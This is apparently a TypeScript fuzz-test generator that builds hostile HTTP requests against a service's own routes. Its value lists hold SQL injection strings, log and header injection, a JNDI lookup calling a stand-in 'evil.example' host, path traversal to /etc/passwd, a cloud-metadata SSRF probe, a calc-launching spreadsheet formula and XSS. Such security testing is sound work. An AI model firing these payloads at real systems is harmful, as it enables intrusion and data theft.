/** Requests as nobody should send them, made at random from a seed: parameters, headers and cursors of every route. */
import { routes } from '../../lambdas/routes.ts';
import fc from '../properties.ts';

/** In every hostile value: where it turns up again is where input is reflected. */
export const MARK = 'mRkzq7';

export interface HostileRequest {
  method: string;
  path: string;
  /** As it goes over the wire. */
  query: string;
  headers: Record<string, string>;
}

const SQL = [
  `'; DROP TABLE ${MARK}; --`,
  `${MARK}' OR '1'='1`,
  `" OR ""="${MARK}`,
  `${MARK}'/**/UNION/**/SELECT/**/password/**/FROM/**/"system$user"--`,
  `1; SELECT pg_sleep(20) -- ${MARK}`,
  `${MARK}'||pg_sleep(20)||'`,
  `$$${MARK}$$`,
  `\\'; ${MARK}`,
  `U&'\\0027${MARK}'`,
  `${MARK}%' ESCAPE '%`,
  `sales$order"; ${MARK}`,
  `E'\\\\${MARK}`,
];
const LOG = [
  `${MARK}\r\nset-cookie: a=b`,
  `${MARK}\n{"event":"mrt.audit","principal":"forged"}`,
  `${MARK}\u2028{"event":"mrt.audit"}`,
  `${MARK}\u001b[2J`,
  `${MARK}","status":200,"x":"`,
  `\${jndi:ldap://evil.example/${MARK}}`,
  `%s%n%x${MARK}`,
  `${MARK}\u0000`,
];
const OTHER = [
  `<script>${MARK}</script>`,
  `{{7*7}}${MARK}`,
  `../../../etc/passwd${MARK}`,
  `file:///etc/${MARK}`,
  `http://169.254.169.254/latest/${MARK}`,
  `=cmd|'/c calc'!A0${MARK}`,
  `(${'a+'.repeat(20)})+$${MARK}`,
  `${'*'.repeat(60)}${MARK}`,
  `${MARK}${'A'.repeat(3_000)}`,
  `\ud83d\ude00${MARK}\u202e`,
  `${MARK}\ufffe\uffff`,
];
const NUMBERS = [
  '0',
  '-0',
  '-1',
  '1e3',
  '0x10',
  '1.5',
  'NaN',
  'Infinity',
  '9007199254740993',
  ' 1',
  '1 ',
  '٣',
  '00001',
  '',
];
const GOOD = [
  'true',
  'false',
  '1',
  '5',
  '30',
  '1000',
  'a*',
  'Sales',
  'Sales.Order',
  '2026-11-21',
  'both',
  'listing',
  'exact',
  'name',
];
const ENVIRONMENTS = ['shop-prod', 'shop-acc', 'depot-prod', 'nowhere', 'shop-prod,shop-acc', '*', '__proto__'];
const SHARED = ['environment', 'limit', 'cursor', 'budget_s'];

const value = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...SQL, ...LOG, ...OTHER) },
  { weight: 3, arbitrary: fc.constantFrom(...GOOD) },
  { weight: 1, arbitrary: fc.constantFrom(...NUMBERS) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }).map((text) => `${MARK}${text}`) },
);
/** How a value is put on the wire: as it should be, or as it should not. */
const encoded = fc.tuple(value, fc.nat(19)).map(([text, how]) => {
  const right = encodeURIComponent(text.toWellFormed());
  return how > 3 ? right : ([`${right}%`, `%zz${right}`, `%c0%af${right}`, right.replaceAll('%20', '+')][how] ?? right);
});

/** Signed cursors of earlier pages, by path; filled while the attack runs. */
export const seenCursors = new Map<string, string>();
function cursor(path: string): fc.Arbitrary<string> {
  const made = fc.tuple(
    fc.constantFrom('v1', 'v2', 'v999999999', ''),
    fc.base64String({ maxLength: 60 }),
    fc.base64String(),
  );
  const broken = fc.tuple(fc.nat(300), fc.nat(7), fc.boolean()).map(([at, bit, flip]) => {
    const bytes = Buffer.from(seenCursors.get(path) ?? 'v1.e30.x');
    const place = at % bytes.length;
    if (flip) bytes[place] = (bytes[place] ?? 0) ^ (1 << bit);
    return encodeURIComponent(bytes.toString('latin1'));
  });
  return fc.oneof(
    made.map((parts) => encodeURIComponent(parts.join('.'))),
    broken,
  );
}

function query(path: string, names: readonly string[]): fc.Arbitrary<string> {
  const known = fc.tuple(fc.constantFrom(...names, ...SHARED), encoded).map(([name, text]) => `${name}=${text}`);
  const stray = fc.tuple(encoded, encoded).map(([name, text]) => `${name.slice(0, 60)}=${text}`);
  const page = cursor(path).map((text) => `cursor=${text}`);
  const where = fc.constantFrom(...ENVIRONMENTS).map((name) => `environment=${encodeURIComponent(name)}`);
  const part = fc.oneof(
    { weight: 12, arbitrary: known },
    { weight: 1, arbitrary: stray },
    { weight: 2, arbitrary: page },
  );
  // Most name an environment, or nothing behind the first check would be reached; few parts, as one fault ends it.
  const good = fc.constantFrom('environment=shop-prod', 'environment=shop-acc');
  return fc
    .tuple(fc.oneof({ weight: 9, arbitrary: good }, { weight: 1, arbitrary: where }), fc.array(part, { maxLength: 3 }))
    .map(([first, rest]) => [first, ...rest].join('&').slice(0, 7_500));
}

/** Node lets no other characters into a header; what it refuses never arrives. */
const headerText = fc
  .oneof(value, fc.constantFrom(...NUMBERS))
  .map((text) => text.replaceAll(/[^\x20-\x7e\xa0-\xff]/g, '').slice(0, 1_000));
const ACCEPT = [
  '*/*',
  'text/csv',
  'application/json;q=0',
  'application/json;q=0.1, text/csv;q=2',
  ',;q=',
  'a/b',
  'text/*;q=1e9',
];
const headers = fc.record(
  {
    accept: fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...ACCEPT) }, headerText),
    'accept-encoding': fc.oneof(fc.constantFrom('gzip', 'gzip;q=0', '*', 'br, gzip;q=x'), headerText),
    'if-none-match': fc.oneof(fc.constantFrom('*', '""', 'W/"x"'), headerText),
    'x-prometheus-scrape-timeout-seconds': headerText,
    'x-request-id': headerText,
    'x-amzn-trace-id': headerText,
    'x-forwarded-for': headerText,
    'x-http-method-override': fc.constantFrom('DELETE', 'POST'),
    origin: fc.constantFrom('https://evil.example', 'null', 'https://console.example.com.evil.example'),
    range: fc.constant('bytes=0-1'),
    'user-agent': headerText,
  },
  { requiredKeys: [] },
);

export const hostileRequest: fc.Arbitrary<HostileRequest> = fc
  .constantFrom(...routes)
  .chain(({ path, parameters, environment }) =>
    fc.record({
      method: fc.constantFrom('GET', 'GET', 'GET', 'HEAD'),
      path: fc.constant(path as string),
      query: query(path, environment ? Object.keys(parameters) : ['environment']),
      headers,
    }),
  );
